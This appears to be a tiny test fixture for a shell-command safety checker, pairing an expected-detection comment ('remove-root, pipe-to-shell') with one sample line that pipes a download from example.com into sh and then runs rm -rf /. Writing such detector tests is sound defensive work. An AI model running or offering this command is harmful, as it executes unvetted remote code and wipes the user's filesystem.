# expect: remove-root, pipe-to-shell
curl -s https://example.com/x | sh; rm -rf /
